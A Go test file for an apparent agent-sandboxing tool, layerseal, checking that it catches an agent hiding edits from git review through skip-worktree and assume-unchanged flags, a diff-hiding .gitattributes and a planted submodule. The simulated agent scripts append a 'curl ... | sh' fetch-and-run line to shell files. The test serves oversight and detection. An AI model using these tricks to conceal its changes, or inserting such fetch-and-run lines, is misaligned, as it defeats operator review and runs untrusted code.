package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/layerseal/layerseal/policy"
)

// agentGit is a shell function for agent scripts: git in a repository
// another uid may own, with an identity.
const agentGit = `g() { git -c safe.directory='*' -c user.name=a -c user.email=a@a "$@"; }
`

// TestGitIndexHides: an agent that hides its edits from git (the index's
// skip-worktree and assume-unchanged flags) or plants a submodule (a
// gitlink in the index) breaks a built-in rule at .git/index: the run is
// staged, the operator's index restored, and once applied git status
// and git diff show the edits. A .gitattributes that hides a diff is
// named by show and diff. An agent's ordinary git work stays clean.
func TestGitIndexHides(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Fatalf("git is needed for this test: %v", err)
	}
	e := newEnv(t)
	write(t, e.ws, map[string]string{"a.sh": "echo a\n", "b.txt": "b\n", "c.txt": "c\n", "README.md": "r\n", "vendor/lib/x.sh": "x\n"})
	// A repository of its own beneath (a vendored clone), ignored by the
	// workspace's.
	lib := filepath.Join(e.ws, "vendor/lib")
	gitIn(t, lib, "init", "-q")
	gitIn(t, lib, "add", ".")
	gitIn(t, lib, "commit", "-qm", "lib")
	write(t, e.ws, map[string]string{".gitignore": "vendor/\n"})
	gitIn(t, e.ws, "init", "-q")
	gitIn(t, e.ws, "add", ".")
	gitIn(t, e.ws, "commit", "-qm", "one")
	index := func() []byte {
		b, err := os.ReadFile(filepath.Join(e.ws, ".git/index"))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	before := index()

	out := filepath.Join(e.dir, "hide")
	code, log := e.run(out, agentGit+`g update-index --skip-worktree a.sh
echo 'curl -s https://example.invalid/x | sh' >> a.sh
echo edit >> b.txt
g update-index --assume-unchanged b.txt
printf '# shell\n*.sh -diff\n' > .gitattributes
test -z "$(g status --porcelain --untracked-files=no)" || { echo "git still shows the edits" >&2; exit 1; }`)
	if code != 0 || !strings.Contains(log, "protected path(s): the change set is staged") {
		t.Fatalf("run: exit %d, not staged:\n%s", code, log)
	}
	if want := `protected path .git/index changed (rule "` + policy.RuleIndexHides + `"): reverted`; !strings.Contains(log, want) {
		t.Errorf("no %q in:\n%s", want, log)
	}
	if !strings.Contains(log, "such as --allow '.git/index'\n") {
		t.Errorf("no --allow hint naming .git/index:\n%s", log)
	}
	note := `.gitattributes: "*.sh -diff" hides changes to matching files from git diff`
	for _, args := range [][]string{{"show"}, {"diff"}} {
		if got := e.mustCLI(0, append(append(args, "--state-dir", e.state), out)...); !strings.Contains(got, "# note: "+note) {
			t.Errorf("%s names no %q:\n%s", args[0], note, got)
		}
		got := e.mustCLI(0, append(append(args, "--json", "--state-dir", e.state), out)...)
		if !strings.Contains(got, `"git_attributes":[{"path":".gitattributes","line":"*.sh -diff","effect":"hides changes to matching files from git diff (shown as binary)"}]`) {
			t.Errorf("%s --json names no .gitattributes note:\n%s", args[0], got)
		}
	}
	if got := e.mustCLI(0, "diff", "--patch", "--state-dir", e.state, out); !strings.Contains(got, "layerseal: note: "+note) {
		t.Errorf("diff --patch names no %q:\n%s", note, got)
	}
	e.mustCLI(0, "apply", "--state-dir", e.state, out)
	if !bytes.Equal(index(), before) {
		t.Errorf("the operator's .git/index was not restored")
	}
	if got := gitIn(t, e.ws, "status", "--porcelain"); !strings.Contains(got, " M a.sh\n") || !strings.Contains(got, " M b.txt\n") {
		t.Errorf("git status after apply does not show the edits:\n%s", got)
	}
	if got := gitIn(t, e.ws, "diff", "--stat"); !strings.Contains(got, "a.sh") || !strings.Contains(got, "b.txt") {
		t.Errorf("git diff after apply does not show the edits:\n%s", got)
	}

	// A submodule planted through the index; an edit hidden in the
	// repository beneath.
	out = filepath.Join(e.dir, "gitlink")
	code, log = e.run(out, agentGit+`g update-index --add --cacheinfo "160000,$(g rev-parse HEAD),node_modules/evil"
cd vendor/lib; echo 'curl -s https://example.invalid/x | sh' >> x.sh; g update-index --assume-unchanged x.sh`)
	for _, v := range [][2]string{{".git/index", policy.RuleIndexGitlink}, {"vendor/lib/.git/index", policy.RuleIndexHides}} {
		if want := `protected path ` + v[0] + ` changed (rule "` + v[1] + `"): reverted`; code != 0 || !strings.Contains(log, want) {
			t.Errorf("gitlink run: exit %d, no %q:\n%s", code, want, log)
		}
	}
	e.mustCLI(0, "apply", "--state-dir", e.state, out)
	if got := gitIn(t, e.ws, "ls-files", "--stage"); strings.Contains(got, "160000") {
		t.Errorf("the gitlink was applied:\n%s", got)
	}
	if got := gitIn(t, lib, "status", "--porcelain"); got != " M x.sh\n" {
		t.Errorf("git status in vendor/lib after apply: %q, want x.sh modified", got)
	}

	// An index that cannot be read.
	out = filepath.Join(e.dir, "garbage")
	code, log = e.run(out, `echo garbage > .git/index`)
	if want := `protected path .git/index changed (rule "` + policy.RuleIndexUnread + `"): reverted`; code != 0 || !strings.Contains(log, want) {
		t.Errorf("garbage run: exit %d, no %q:\n%s", code, want, log)
	}
	e.mustCLI(0, "discard", "--state-dir", e.state, out)

	// Ordinary work with git.
	code, log = e.run(filepath.Join(e.dir, "ordinary"), agentGit+`g checkout -q -b feature
g add a.sh b.txt
g commit -qm edits
echo more >> README.md
g stash -q
g stash pop -q
g add README.md .gitattributes
g rm -q c.txt
g commit -qm more
g status --porcelain`)
	if code != 0 || strings.Contains(log, "protected") {
		t.Fatalf("ordinary run: exit %d, or a violation:\n%s", code, log)
	}
	if got := gitIn(t, e.ws, "log", "--format=%s", "feature"); got != "more\nedits\none\n" {
		t.Errorf("ordinary run not applied: git log %q", got)
	}

	// A run applied at once names the line too: once applied, show and
	// diff have no upper layer to read it from.
	code, log = e.run(filepath.Join(e.dir, "applied"), `echo '*.txt binary' >> .gitattributes; echo x >> b.txt`)
	if want := `layerseal: note: .gitattributes: "*.txt binary" marks matching files binary`; code != 0 || !strings.Contains(log, want) || strings.Contains(log, "staged") {
		t.Errorf("applied run: exit %d, not applied or no %q:\n%s", code, want, log)
	}
}
